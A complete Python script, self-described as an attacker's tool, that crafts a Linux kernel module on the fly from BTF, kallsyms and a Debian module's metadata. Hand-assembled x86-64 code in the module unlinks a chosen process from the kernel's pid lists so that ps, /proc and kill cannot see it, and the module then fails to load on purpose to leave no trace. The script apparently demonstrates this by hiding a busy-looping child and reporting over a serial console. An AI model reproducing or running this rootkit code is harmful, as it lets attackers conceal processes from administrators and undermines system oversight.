#!/usr/bin/python3
"""An attacker's tool, for inside a guest, as root: a process that hides itself in the kernel.

It loads a module of its own, made on the spot without a compiler from what the guest says of its kernel
(BTF, kallsyms, and a module of Debian's for what every module has to say). The module takes the process off
its pid, so that /proc, ps and kill find nothing there, and then refuses to be loaded, so that nothing is left
of it.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import mmap
import os
import struct
import subprocess
import time
from pathlib import Path

NAME = b"worker"
INIT_MODULE = 175  # the system call's number, of x86-64
EPERM, ESRCH = 1, 3
Offsets = dict[str, int]


# ---------------------------------------------------------------- what the kernel says of itself


def offsets_of(btf: bytes, structure: bytes, members: list[bytes]) -> Offsets:
    """Bytes from the beginning of a structure to its members, by the kernel's types (BTF)."""
    _, _, _, header, types, length, strings, _ = struct.unpack_from("<HBBIIIII", btf)
    at, end, names = header + types, header + types + length, header + strings
    # After the type itself: so many bytes for each kind, and so many for each of its parts.
    own = {1: 4, 3: 12, 14: 4, 17: 4}
    each = {4: 12, 5: 12, 6: 8, 13: 8, 15: 12, 19: 12}

    def called(offset: int) -> bytes:
        return btf[names + offset : btf.index(b"\0", names + offset)]

    while at < end:
        name, info, _ = struct.unpack_from("<III", btf, at)
        kind, many = info >> 24 & 0x1F, info & 0xFFFF
        if kind == 4 and called(name) == structure:
            found = {}
            for number in range(many):
                member, _, bits = struct.unpack_from("<III", btf, at + 12 + 12 * number)
                if called(member) in members:
                    found[called(member).decode()] = (bits & 0xFFFFFF if info >> 31 else bits) // 8
            return found
        at += 12 + own.get(kind, 0) + each.get(kind, 0) * many
    raise ValueError("the kernel says nothing of that structure")


def address_of(symbol: str, kallsyms: str) -> int:
    for line in kallsyms.splitlines():
        address, _, name = line.split(maxsplit=2)
        if name == symbol:
            return int(address, 16)
    raise ValueError(f"the kernel has no {symbol}")


# ---------------------------------------------------------------- what is done in the kernel


def code(first: int, pid: int, offsets: Offsets) -> bytes:
    """int init(void), for x86-64. `first`: the address of the first task, from which all are linked."""
    link = offsets["tasks"]

    def beside(member: int) -> bytes:
        return struct.pack("<i", member - link)

    unlink = b"".join(
        b"\x48\x8d\xb1"
        + beside(offsets["pid_links"] + 16 * kind)  # lea rsi, [rcx + a link to the pid]
        + b"\x48\x8b\x16\x48\x8b\x7e\x08"  # mov rdx, [rsi]; mov rdi, [rsi + 8]
        + b"\x48\x89\x17"  # mov [rdi], rdx
        + b"\x48\x85\xd2\x74\x04\x48\x89\x7a\x08"  # test rdx, rdx; jz +4; mov [rdx + 8], rdi
        + b"\x48\xc7\x06\x00\x00\x00\x00\x48\x89\x76\x08"  # mov qword [rsi], 0; mov [rsi + 8], rsi
        for kind in (0, 1)  # PIDTYPE_PID, PIDTYPE_TGID; led to itself, the process can still end
    )
    done = unlink + b"\xb8" + struct.pack("<i", -EPERM) + b"\xc3"  # mov eax, -EPERM; ret
    nobody = b"\xb8" + struct.pack("<i", -ESRCH) + b"\xc3"
    compare = b"\x81\xb9" + beside(offsets["pid"]) + struct.pack("<I", pid)  # cmp dword [rcx + pid], pid
    step = b"\x48\x8b\x09\x48\x39\xc1"  # mov rcx, [rcx]; cmp rcx, rax
    back = len(step) + 2 + len(compare) + 2
    leave = bytes([len(compare) + 2 + len(done)])
    walk = step + b"\x74" + leave + compare + b"\x75" + struct.pack("<b", -back)  # je nobody; jne step
    start = b"\xf3\x0f\x1e\xfa\x48\xb8" + struct.pack("<Q", first + link) + b"\x48\x89\xc1"
    return start + walk + done + nobody  # endbr64; mov rax, the list; mov rcx, rax


class Debians:
    """What every module has to say, read from one of Debian's own."""

    def __init__(self, data: bytes) -> None:
        (sections,) = struct.unpack_from("<Q", data, 40)
        size, many, names = struct.unpack_from("<HHH", data, 58)
        rows = [struct.unpack_from("<IIQQQQIIQQ", data, sections + size * one) for one in range(many)]
        at = rows[names][4]
        part = {
            data[at + row[0] : data.index(b"\0", at + row[0])]: data[row[4] : row[4] + row[5]] for row in rows
        }
        self.said = [
            one for one in part[b".modinfo"].split(b"\0") if one.startswith((b"vermagic=", b"retpoline="))
        ]
        self.versions = next(
            one
            for start in range(0, len(part[b"__versions"]), 64)
            if (one := part[b"__versions"][start : start + 64])[8:].rstrip(b"\0") == b"module_layout"
        )
        self.size = len(part[b".gnu.linkonce.this_module"])
        name = next(one for one in part[b".modinfo"].split(b"\0") if one.startswith(b"name="))[5:]
        self.name_at = part[b".gnu.linkonce.this_module"].index(name)
        # Where the kernel looks for the function to call first: what the module's own symbol is put to.
        moved = part[b".rela.gnu.linkonce.this_module"]
        if len(moved) != 48:
            raise ValueError("it does not begin and end")
        self.init_at = min(struct.unpack_from("<Q", moved, one)[0] for one in (0, 24))


def any_of_debians(folder: Path) -> Debians:
    for path in sorted(folder.rglob("*.ko")):
        with contextlib.suppress(ValueError, LookupError, StopIteration):
            return Debians(path.read_bytes())
    raise ValueError("there is no module to go by")


def module(text: bytes, debians: Debians) -> bytes:
    """An ELF file that the kernel takes for a module, and whose first function is `text`."""
    symbols = b"\0init_module\0"
    this = bytearray(debians.size)
    this[debians.name_at : debians.name_at + len(NAME)] = NAME
    said = b"\0".join([b"license=GPL", b"name=" + NAME, *debians.said, b""])
    # name, type, flags, link, info, entry size, content
    parts: list[tuple[bytes, int, int, int, int, int, bytes]] = [
        (b"", 0, 0, 0, 0, 0, b""),
        (b".text", 1, 6, 0, 0, 0, text),
        (b".gnu.linkonce.this_module", 1, 3, 0, 0, 0, bytes(this)),
        (
            b".rela.gnu.linkonce.this_module",
            4,
            0x40,
            6,
            2,
            24,
            struct.pack("<QQq", debians.init_at, 1 << 32 | 1, 0),
        ),
        (b".modinfo", 1, 2, 0, 0, 0, said),
        (b"__versions", 1, 2, 0, 0, 0, debians.versions),
        (b".symtab", 2, 0, 7, 1, 24, bytes(24) + struct.pack("<IBBHQQ", 1, 0x12, 0, 1, 0, len(text))),
        (b".strtab", 3, 0, 0, 0, 0, symbols),
    ]
    names = b"".join(part[0] + b"\0" for part in parts) + b".shstrtab\0"
    parts.append((b".shstrtab", 3, 0, 0, 0, 0, names))
    content, rows = bytearray(64), b""
    for name, kind, flags, link, info, entry, data in parts:
        content += bytes(-len(content) % 64)
        where = names.index(name + b"\0") if name else 0
        rows += struct.pack(
            "<IIQQQQIIQQ",
            where,
            kind,
            flags,
            0,
            len(content),
            len(data),
            link,
            info,
            16 if kind else 0,
            entry,
        )
        content += data
    content += bytes(-len(content) % 8)
    # A relocatable file (1) for x86-64 (62), its table of sections at the end.
    head = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + struct.pack(
        "<HHIQQQIHHHHHH", 1, 62, 1, 0, 0, len(content), 0, 64, 0, 0, 64, len(parts), len(parts) - 1
    )
    content[:64] = head
    return bytes(content) + rows


def hide(pid: int) -> str:
    """What went wrong; nothing if the process is hidden."""
    task = offsets_of(
        Path("/sys/kernel/btf/vmlinux").read_bytes(), b"task_struct", [b"tasks", b"pid", b"pid_links"]
    )
    first = address_of("init_task", Path("/proc/kallsyms").read_text())
    made = module(code(first, pid, task), any_of_debians(Path(f"/lib/modules/{os.uname().release}")))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(INIT_MODULE, made, ctypes.c_ulong(len(made)), b"")
    error = ctypes.get_errno()
    return "" if error == EPERM else f"the kernel did not take the module: {os.strerror(error)}"


# ---------------------------------------------------------------- what for


def work(count: mmap.mmap) -> None:
    """What is to be seen by nobody."""
    Path("/proc/self/comm").write_bytes(NAME)
    while True:
        sum(range(20_000))
        count[:8] = struct.pack("<Q", struct.unpack("<Q", count[:8])[0] + 1)
        time.sleep(0.2)


def say(**said: object) -> None:
    """On the console, opened for each line: getty hangs up whoever had it open before."""
    with Path("/dev/ttyS0").open("wb", buffering=0) as console:
        console.write(b"demo-hidden " + json.dumps(said).encode() + b"\n")


def main() -> None:
    count = mmap.mmap(-1, 8)
    pid = os.fork()
    if pid == 0:
        work(count)
    time.sleep(1)
    hidden_at, problem = time.time(), ""
    try:
        problem = hide(pid)
    except (OSError, ValueError, LookupError, StopIteration) as error:
        problem = f"{type(error).__name__}: {error}"
    while True:
        shown = subprocess.run(["ps", "-e", "-o", "pid="], capture_output=True, check=False).stdout.split()
        (worked,) = struct.unpack("<Q", count[:8])
        say(
            hidden_at=hidden_at,
            at=time.time(),
            pid=pid,
            shown=str(pid).encode() in shown,
            worked=worked,
            problem=problem,
        )
        time.sleep(5)


if __name__ == "__main__":
    main()
